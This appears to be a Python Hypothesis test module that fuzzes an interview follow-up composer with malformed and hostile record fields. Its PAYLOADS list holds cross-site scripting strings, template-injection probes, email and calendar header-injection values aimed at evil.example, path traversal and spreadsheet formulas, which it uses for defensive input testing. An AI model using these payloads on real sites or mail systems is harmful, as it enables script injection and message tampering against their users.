"""Records as nobody types them, and as somebody who means harm would."""

from __future__ import annotations

import json
import unicodedata
from functools import cache
from pathlib import Path
from typing import Any

from hypothesis import strategies as st

from composer.record.record import as_typed, candidate_as_typed

_FILE = json.loads((Path(__file__).parents[1] / "interviews.json").read_text(encoding="utf-8"))
INTERVIEWS = [as_typed(record) for record in _FILE["interviews"]]
CANDIDATE = candidate_as_typed(_FILE["candidate"])

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</textarea><iframe srcdoc='<script>1</script>'>",
    "</template><form action=//evil.example><input name=x>",
    "<!--", "-->", "<![CDATA[", "]]>", "</p><b>", "&lt;b&gt; &amp;amp; &#60;i&#62; &NewLine;",
    "` onmouseover=alert(1) x=`", "javascript:alert(1)", "data:text/html,<b>",
    "{{ 7*7 }}", "{% for x in range(10**9) %}{% endfor %}", "{{ ''.__class__.__mro__ }}", "{# #}", "${7*7}", "%s %(x)s {0.__class__}",
    "a\r\nBcc: everyone@evil.example", "a\nBEGIN:VALARM\nEND:VALARM", "a\r\n\r\n<html>", "\r\nATTACH:http://evil.example",
    "x@example.org?bcc=evil@evil.example", "x@example.org&body=other", "a@b.example,c@d.example", "a%0d%0abcc:e@evil.example", "=?utf-8?q?=0ABcc:?=",
    "UID:1\\nBEGIN:VEVENT", ";VALUE=x:", "\\", "\\n\\,\\;", '"quoted"', "^n^'",
    "\u202eevil\u202c", "\u2066\u2067\u2068\u2069", "\u200b\u200d\ufeff", "\u2028\u2029\x85", "e\u0301\u0327" * 9,
    "\ud800", "\udc00\ud800", "a\udfffb", "\x00", "\x00\x01\x1b[31m\x7f\x9b", "\x0b\x0c\x1c\x1d\x1e",
    "__proto__", "constructor", "__class__", "../../etc/passwd", "CON", ".", "a" * 300, "=HYPERLINK(1)", "@SUM(1)",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U000e0041\U000e007f", "\u0600\u06dd", "\ufdfa" * 20, "İıſßﬀ", "١٢٣", "  \t  ",
)  # fmt: skip

_CHARACTERS = st.characters(codec=None, exclude_categories=())
_WORDS = st.sampled_from(
    (
        "Priya Raman",
        "Lumen Health",
        "dbt",
        "van der Berg, Jan",
        "李 伟",
        "SAP Ariba.",
        "I",
        "five years of it",
    )
)
_SHORT = (
    st.sampled_from(PAYLOADS),
    st.text(_CHARACTERS, max_size=40),
    st.lists(st.one_of(st.sampled_from(PAYLOADS), _WORDS, st.text(_CHARACTERS, max_size=5)), max_size=6).map(
        " ".join
    ),
)
_LONG = st.tuples(st.sampled_from(PAYLOADS), st.sampled_from((50, 500))).map(lambda pair: pair[0] * pair[1])
TEXT = st.one_of(*_SHORT * 5, _LONG).map(lambda text: json.loads(json.dumps(text)))
"""Text for any field, as JSON hands it on: payloads, any characters at all (lone surrogates too), and very long."""

_PLAUSIBLE: dict[str, tuple[str, ...]] = {
    "starts": ("2026-11-24T10:30", "2026-11-01T01:30", "2028-02-29T23:59", "2026-03-29T02:30", "1990-01-01T00:00", "2200-12-31T23:00", "24.11.2026"),
    "minutes": ("1", "45", "1440", "0", "-5", "1e9", "٤٥"),
    "time_zone": ("America/New_York", "Pacific/Kiritimati", "Etc/GMT+12", "Asia/Kathmandu", "Mars/Base", "../UTC", "UTC"),
    "country": ("CH", "ae", "US", "ZZ", "toolong"),
    "format": ("phone screen", "onsite panel", "technical interview, video", "informational chat", "final round"),
    "tone": ("warm", "formal", "brief", "rude"),
    "scenario": ("", "after-rejection", "withdrawing", "competing-deadline", "late-thank-you", "group-note", "nothing-like-it"),
    "step": ("thank-you", "follow-up", "final follow-up", "fourth"),
    "channel": ("email", "linkedin", "card", "fax"),
    "at": ("2026-11-24T18:05:00Z", "2026-11-24T18:05:00+14:00", "2026-11-24T18:05", "never"),
    "answered": ("", "2026-12-01T09:00:00Z"),
    "decision_by": ("2026-12-11", "2026-11-25", "0001-01-01"),
    "deadline": ("2026-12-01",),
    "fold": ("0", "1", "2"),
    "honorific": ("Ms.", "Mr.", "Mx.", "Dr.", "Prof.", "Sir"),
    "email": ("a@example.org", "ä@exämple.org", "a@b", "a,b@example.org", "x@example.org?cc=y@z.example"),
    "link": ("https://a.example/?b=c&d", "javascript:alert(1)", 'https://a.example/"onclick=1'),
    "earliest": ("08:30", "00:00", "25:00"), "latest": ("20:00", "00:00", "23:59"),
    "target_hours": ("24", "48", "72"), "weekends": ("yes", "no"), "follow_up_weeks": ("1", "2"),
    "follow_ups": ("0", "1", "2"), "reminder_minutes": ("0", "15", "10080", "99999999"),
}  # fmt: skip


@st.composite
def _fields(draw: st.DrawFn, value: Any, name: str = "") -> Any:
    """Write over some of the leaves of `value`; lists grow and shrink."""
    if isinstance(value, dict):
        return {key: draw(_fields(part, key)) for key, part in value.items()}
    if isinstance(value, list):
        count = draw(st.sampled_from((0, 1, len(value), len(value), 2, 9)))
        return [draw(_fields(value[i % len(value)])) for i in range(count)] if value else []
    chance = draw(st.integers(0, 9))
    if name in _PLAUSIBLE and chance < 5:
        return draw(st.sampled_from(_PLAUSIBLE[name]))
    return draw(TEXT) if chance < 7 and name != "schema" else value


def _with_every_list(record: dict[str, Any]) -> dict[str, Any]:
    sent = {"step": "thank-you", "person": "Priya Raman", "at": "2026-11-24T18:05:00Z", "channel": "email"}
    words = dict.fromkeys(("subject", "body", "base_subject", "base_body"), "Thank you for your time.")
    revision = {"step": "thank-you", "person": "Priya Raman", "channel": "email", **words}
    return {**record, "sent": record["sent"] or [sent], "revisions": record["revisions"] or [revision]}


interviews = st.sampled_from([_with_every_list(record) for record in INTERVIEWS]).flatmap(_fields)
candidates = _fields(CANDIDATE)
nows = st.sampled_from(
    ("2026-11-24T18:00:00Z", "2026-11-24T15:31:00.123Z", "2027-01-01T00:00:00Z", "2026-03-08T07:00:00Z")
)
pages = st.sampled_from(("https://someone.example/some-name/composer/", "http://localhost:8000/composer/"))

real_interviews = st.sampled_from([{**record, "revisions": []} for record in INTERVIEWS])
"""As people type them, with nothing rewritten by hand."""

_FACT = st.one_of(st.just(""), st.lists(_WORDS, max_size=3).map("\n".join), TEXT)

facts_changed = st.tuples(
    st.dictionaries(st.sampled_from(("fit", "news", "next_step", "company", "role")), _FACT, max_size=4),
    st.dictionaries(st.sampled_from(("talked_about", "fit", "title")), _FACT, max_size=2),
)
"""Facts of an interview, and of each of its people, as they are changed later: cleared, with more lines or fewer."""


def with_facts(interview: dict[str, Any], change: tuple[dict[str, Any], dict[str, Any]]) -> dict[str, Any]:
    """Give `interview` with other facts, and the same people with others about them."""
    facts, of_people = change
    return {**interview, **facts, "people": [{**person, **of_people} for person in interview["people"]]}


EDITS = st.sampled_from(
    [
        lambda body: body,
        lambda body: body + " And a word of my own.",
        lambda body: "A word of my own. " + body,
        lambda body: body[: len(body) // 2],
        lambda body: body.replace(". ", ".  ", 1),
        lambda _: "",
    ]
)
"""What a person makes of a text by hand."""

JSON = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), TEXT),
    lambda inner: st.one_of(
        st.lists(inner, max_size=4),
        st.dictionaries(st.one_of(TEXT, st.sampled_from(sorted(INTERVIEWS[0]))), inner, max_size=4),
    ),
    max_leaves=12,
)
"""Any JSON at all, some of it with a record's own keys."""


def typed(value: Any) -> Any:
    """Give a record without what nobody types: control and format characters, fillers, lone surrogates."""
    if isinstance(value, str):
        return "".join(character for character in value if not _is_untyped(character))
    if isinstance(value, dict):
        return {key: typed(part) for key, part in value.items()}
    return [typed(part) for part in value]


@cache
def _is_untyped(character: str) -> bool:
    turns = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
    code = ord(character)
    is_none = 0xFDD0 <= code <= 0xFDEF or code in {0xFFFE, 0xFFFF}
    fills = character in "\u115f\u1160\u180e\u200b\u3164\ufeff\uffa0"
    is_format = 0x2060 <= code <= 0x206F or 0xFFF0 <= code <= 0xFFFB or 0xE0000 <= code <= 0xE007F
    return (
        (unicodedata.category(character) in {"Cc", "Cs", "Zl", "Zp"} and character not in "\t\n\r")
        or unicodedata.bidirectional(character) in turns
        or is_none
        or fills
        or is_format
    )
